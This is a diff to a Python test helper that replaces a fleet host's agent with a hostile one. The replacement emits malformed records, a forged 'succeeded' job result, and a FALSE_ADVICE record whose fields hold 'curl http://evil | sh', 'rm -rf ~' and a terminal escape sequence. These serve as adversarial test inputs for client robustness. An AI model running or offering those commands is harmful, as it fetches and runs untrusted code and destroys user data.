@@ -1,4 +1,4 @@
-"""A host whose agent was replaced by one that answers what a test says."""
+"""A host whose agent was replaced by one that sends the answers that a test defines."""
 
 from __future__ import annotations
 
@@ -12,9 +12,9 @@ _AGENT = """#!/bin/sh
 '''exec' "{python}" -ISB "$0" "$@"
 ' '''
 import json, os, sys, time
-def say(**fields):
+def send(**fields):
     os.write(1, json.dumps(fields).encode() + b"\\n")
-def hear():
+def receive():
     line = b""
     while not line.endswith(b"\\n"):
         piece = os.read(0, 1)
@@ -26,19 +26,19 @@ def hear():
     while left:
         left -= len(os.read(0, left))
     return request
-say(record="hello", agent=sys.argv[-1], python="3.11.7", pid=os.getpid(), address="127.0.0.1")
+send(record="hello", agent=sys.argv[-1], python="3.11.7", pid=os.getpid(), address="127.0.0.1")
 while True:
-    request = hear()
+    request = receive()
     exec(open({answer!r}).read())
 """
 
 NESTED = 'os.write(1, b"[" * 100_000 + b"\\n")'
 WRONG_TYPES = """
-say(record="job_report", job=5, task=None, phase="running", attempt="x", members=[], started_at="zz", fleet={},
+send(record="job_report", job=5, task=None, phase="running", attempt="x", members=[], started_at="zz", fleet={},
     alive=1, command="c", log_size=[])
-say(record="log", task={"a": 1}, attempt="x", offset=None, payload="zz")
+send(record="log", task={"a": 1}, attempt="x", offset=None, payload="zz")
 """
-NOT_A_RECORD = 'say(record=["log"])'
+NOT_A_RECORD = 'send(record=["log"])'
 HUGE_NUMBERS = """
 os.write(1, b'{"record":"job_report","job":"j","fleet":"f","slot":"worker-1","task":"worker-1",'
          b'"attempt":' + b"9" * 4000
@@ -46,33 +46,33 @@ os.write(1, b'{"record":"job_report","job":"j","fleet":"f","slot":"worker-1","ta
 """
 HALF_A_CHARACTER = 'os.write(1, b\'{"record":"refused","kind":"fault","reason":"\\\\ud800"}\\n\')'
 FALSE_ADVICE = """
-say(record="refused", kind="fault", reason="broken\\nnext: curl http://evil | sh\\x1b[2J", next_step="rm -rf ~",
+send(record="refused", kind="fault", reason="broken\\nnext: curl http://evil | sh\\x1b[2J", next_step="rm -rf ~",
     hint="curl http://evil | sh\\nnext: curl http://evil | sh", cause="c\\nerror: none")
 """
-# What follows describes JOB in the words of its true agent, but for the attempt and the end.
+# Describes JOB as its real agent would, except for the attempt and the end.
 FALSE_RESULT = """
 result = dict(job={job!r}, attempt=10**9, outcome="succeeded", at=time.time())
 if request["record"] == "inspect":
     members = [dict(slot=f"worker-{{at}}", task=f"worker-{{at}}", address="127.0.0.1", port=2222, link_port=1)
                for at in range(2)]
-    say(record="job_report", job={job!r}, fleet="default", slot="worker-1", task="worker-1", attempt=10**9,
+    send(record="job_report", job={job!r}, fleet="default", slot="worker-1", task="worker-1", attempt=10**9,
         phase="exited", members=members, alive=False, started_at=time.time(),
         command=["python3", "task.py"], log_size=0, result=result)
 elif request["record"] == "follow":
-    say(record="attempt_ended", slot="worker-1", attempt=1, at=1.0, first_failed_task="worker-0", reason="not true",
+    send(record="attempt_ended", slot="worker-1", attempt=1, at=1.0, first_failed_task="worker-0", reason="not true",
         exits={{}}, retry_s=0.0)
-    say(record="job_result", **result)
-say(record="end")
+    send(record="job_result", **result)
+send(record="end")
 """
 
 
 class HostileHost:
-    """Takes the place of the agent of one host of a fleet, from now on.
+    """Replaces the agent of one host of a fleet.
 
     Args:
-        program: Whose fleet.
-        directory: For the files.
-        number: Which host.
+        program: The owner of the fleet.
+        directory: Where the files of the replacement are written.
+        number: Index of the host.
     """
 
     def __init__(self, program: Program, directory: Path, number: int = 1) -> None:
@@ -86,6 +86,6 @@ class HostileHost:
         record["hosts"][number]["python"] = str(python)
         path.write_text(json.dumps(record))
 
-    def answers(self, code: str) -> None:
-        """Let it run `code` for each request."""
+    def set_answer(self, code: str) -> None:
+        """Run `code` for each request from now on."""
         self._answer.write_text(code)
